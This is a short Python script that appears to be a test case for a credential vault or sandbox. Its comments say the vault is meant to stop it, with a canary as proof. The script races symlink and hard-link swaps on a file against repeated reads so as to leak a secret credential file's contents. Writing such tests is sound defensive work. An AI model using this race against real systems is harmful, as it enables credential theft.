# says: Exchanges a file and a symlink to the credential while a second thread opens it.
# stopped by: vault
# proof: canary
# source: TOCTOU
import os
import threading
import time

secret, end = os.environ["SECRET"], time.monotonic() + 0.4
open("plain", "w").close()


def exchange():
    while time.monotonic() < end:
        for make in (lambda: os.symlink(secret, "new"), lambda: os.link("plain", "new")):
            make()
            os.replace("new", "target")


threading.Thread(target=exchange).start()
found = set()
while time.monotonic() < end:
    try:
        found.add(open("target").read())
    except OSError:
        pass
print(found)
